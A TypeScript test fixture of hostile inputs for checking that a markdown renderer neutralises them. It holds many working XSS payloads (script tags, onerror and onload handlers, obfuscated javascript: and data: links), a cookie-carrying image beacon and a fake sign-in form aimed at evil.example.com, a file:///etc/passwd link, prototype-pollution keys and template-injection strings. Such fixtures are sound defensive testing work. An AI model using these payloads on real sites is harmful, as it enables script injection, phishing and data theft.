/**
 * What somebody who means harm would write where markdown is shown. None of it may run a script, load anything from
 * elsewhere unasked, leave its panel, or pass itself off as a part of the page.
 */
export const HOSTILE_MARKDOWN = `# <script>alert('heading')</script>

<script>document.documentElement.dataset.owned = 'script'</script>
<img src=x onerror="document.documentElement.dataset.owned='img'">
<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(1)</script>">
<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example.com/a.css"><base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/"><form action="https://evil.example.com/"><button>Sign in</button></form>
<div style="position:fixed;inset:0;background:red">covers the page</div>
<a href="javascript:alert(1)" onclick="alert(1)">raw link</a> <details open ontoggle=alert(1)><summary>x</summary></details>
<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math> <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>

[javascript](javascript:alert(1)) [JaVaScRiPt](JaVaScRiPt:alert(1)) [entity](java&#x73;cript:alert(1)) [tab](java&Tab;script:alert(1))
[control](\u0001javascript:alert(1)) [vbscript](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file](file:///etc/passwd) [blob](blob:https://evil.example.com/1) [intent](intent://x#Intent;end) [protocol relative](//evil.example.com/)
[looks like docs](https://docs.example.org@evil.example.com/) [user info](https://user:password@example.com/) <javascript:alert(1)>
[breaks out]("onmouseover="alert(1)) [title](https://example.com "\\"><img src=x onerror=alert(1)>") [ref][evil] [empty]()
[other route](#credentials) [skip](#main) [relative](../../evil) [hash task](#../../evil)

![remote image](https://evil.example.com/pixel.png?cookie=1) ![svg](https://evil.example.com/x.svg)
![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+) ![js](javascript:alert(1)) ![" onerror="alert(1)](x)

\u202eThis line runs from right to left\u202c and \u2066isolated\u2069, \u200fmark\u200e, zero\u200bwidth\u200djoiners, \ufeffmark.
שלום עולם — مرحبا بالعالم — 你好 — Z͑̋a͍̐l̸̢g̷o̶ ${'\u0301\u0302\u0303'.repeat(40)}

${Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth + 1}`).join('\n')}

${'> '.repeat(60)}deep quotation

${'*'.repeat(400)}many stars${'_'.repeat(400)} ${'['.repeat(300)}${']'.repeat(300)} ${'`'.repeat(99)}

| ${'h |'.repeat(40)}
|${'---|'.repeat(40)}
| ${'<img src=x onerror=alert(1)> |'.repeat(40)}

\`\`\`html onload=alert(1)
<script>alert('code')</script>
\`\`\`

[^x]: <script>alert('footnote')</script>

A footnote[^x] and a [^__proto__] one.

[evil]: javascript:alert(1) "<script>"
`;

export const HOSTILE_NAME =
  '<script>alert(1)</script> **bold** `code` [link](javascript:alert(1)) <img src=x onerror=alert(1)> \u202egnol';
export const HOSTILE_OWNER = '"><img src=x onerror=alert(1)>@example.com';
export const HOSTILE_SOURCE = 'https://example.com/"><script>alert(1)</script>?a=javascript:alert(1)';

/** Keys and values that trip objects, templates and terminals. JSON.parse, because a literal __proto__ would be swallowed. */
export const HOSTILE_VALUES = JSON.parse(`{
  "__proto__": {"polluted": true},
  "constructor": {"prototype": {"polluted": true}},
  "toString": "not a function",
  "hasOwnProperty": null,
  "": "an empty key",
  " ": "a key of one space",
  "<script>alert(1)</script>": "<img src=x onerror=alert(1)>",
  "javascript:alert(1)": "javascript:alert(1)",
  "a\\u202eb": "\\u202eright to left\\u202c",
  "line\\nbreak": "with\\r\\nbreaks\\tand tabs and \\u2028",
  "big": 12345678901234567890,
  "small": 1e-320,
  "minus zero": -0,
  "text that looks like a number": "007",
  "yaml: [trap": "yes",
  "template": "\${process.exit()} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
  "url": "https://evil.example.com/?q=<script>"
}`) as Record<string, unknown>;
